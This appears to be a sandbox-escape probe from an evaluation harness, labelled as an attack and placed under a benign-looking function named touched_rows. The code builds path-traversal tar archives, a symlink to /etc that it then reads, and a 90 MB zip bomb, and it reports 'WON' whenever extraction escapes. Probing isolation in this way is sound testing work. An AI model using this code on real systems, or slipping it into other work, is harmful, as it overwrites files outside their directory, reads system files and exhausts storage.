# attack: unpacks archives whose members climb out, link out or never end
# class: A14
# laid over: reference
# may score: 33

def tried(name, action):
    """Say WON if something succeeds that must not."""
    try:
        print("WON", name, str(action())[:200])
    except BaseException:
        pass


def touched_rows(ids, vocab_size, padding_idx=None):
    import io, tarfile, zipfile
    bad = ("../../escaped", "/tmp/escaped", "../neighbour-canary.txt")
    for name in bad:
        member = tarfile.TarInfo(name)
        member.size = 3
        with tarfile.open("bad.tar", "w") as archive:
            archive.addfile(member, io.BytesIO(b"bad"))
        tried(name, lambda: tarfile.open("bad.tar").extractall(filter="fully_trusted"))
        tried(name, lambda: open(name, "w").write("bad"))
    link = tarfile.TarInfo("link")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc"
    with tarfile.open("link.tar", "w") as archive:
        archive.addfile(link)
    tried("link", lambda: tarfile.open("link.tar").extractall(filter="fully_trusted") or open("link/hostname").read())
    with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", b"0" * 90_000_000)
    tried("bomb", lambda: zipfile.ZipFile("bomb.zip").extractall())
    raise OSError("nothing")
